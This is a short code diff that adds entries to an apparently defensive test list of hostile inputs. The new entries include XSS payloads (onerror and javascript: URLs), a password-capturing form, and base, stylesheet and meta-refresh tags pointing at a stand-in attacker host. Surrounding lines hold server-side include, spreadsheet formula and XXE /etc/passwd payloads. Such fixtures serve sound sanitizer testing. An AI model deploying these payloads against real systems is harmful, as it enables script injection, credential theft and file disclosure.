@@ -26,6 +26,14 @@ const scripts = named('script', [
   // biome-ignore lint/suspicious/noTemplateCurlyInString: what others would take for a template
   '${process.env.SECRET}',
   '<!--#exec cmd="id"-->',
+  '<math><mtext><style><img src onerror=alert(1)>',
+  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '[click](javascript:alert(1))',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<object data="javascript:alert(1)"></object>',
   "=cmd|' /C calc'!A0",
   '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
 ])
